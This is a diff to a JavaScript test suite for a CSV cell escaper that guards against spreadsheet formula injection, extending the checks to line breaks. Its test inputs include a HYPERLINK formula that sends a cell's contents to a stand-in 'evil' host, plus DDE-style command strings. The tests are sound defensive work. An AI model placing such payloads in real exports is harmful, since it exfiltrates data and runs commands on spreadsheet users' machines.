@@ -23,7 +23,8 @@ describe('csvCell', () => {
       const cell = csvCell(value);
       const unquoted = cell.startsWith('"') ? cell.slice(1, -1) : cell;
       expect(unquoted.startsWith("'")).toBe(true);
-      expect(unquoted.slice(1)).toBe(value);
+      // The text as it was, but for the same quote after a line break that a formula follows (see below).
+      expect(unquoted.slice(1).replace(/([\r\n]\s*)'/g, '$1')).toBe(value);
     },
   );
 
@@ -40,10 +41,20 @@ describe('csvCell', () => {
     expect(csvCell('ok;=1+1;')).toBe("ok;'=1+1;");
     expect(csvCell('a; -1;b')).toBe("a; '-1;b");
     expect(csvCell('a;b;c')).toBe('a;b;c');
-    // Split as such an Excel splits the row: no piece starts as a formula, quoted or not.
-    for (const note of ['x;=cmd', 'say "hi";"=HYPERLINK(""x"")"', 'a, b;@SUM(1);+2', '=1;=2', ';\t=3']) {
+    expect(csvCell('fine\n=HYPERLINK("http://evil/?"&A1,"x")')).toBe('"fine\n\'=HYPERLINK(""http://evil/?""&A1,""x"")"');
+    // Split as such an Excel splits the row, at ';' and at line breaks: no piece starts as a formula, quoted or not.
+    for (const note of [
+      'x;=cmd',
+      'say "hi";"=HYPERLINK(""x"")"',
+      'a, b;@SUM(1);+2',
+      '=1;=2',
+      ';\t=3',
+      'fine\n=HYPERLINK("http://evil/?"&A1,"x")',
+      'ok\r\n+1+cmd|x',
+      'a\r -1',
+    ]) {
       const row = csvRow(['id', note, 'GRANTED']);
-      for (const piece of row.split(';')) expect(piece, `${note} -> ${row}`).not.toMatch(/^[\s"]*[=+\-@]/);
+      for (const piece of row.split(/[;\r\n]/)) expect(piece, `${note} -> ${row}`).not.toMatch(/^[\s"]*[=+\-@]/);
     }
   });
 });
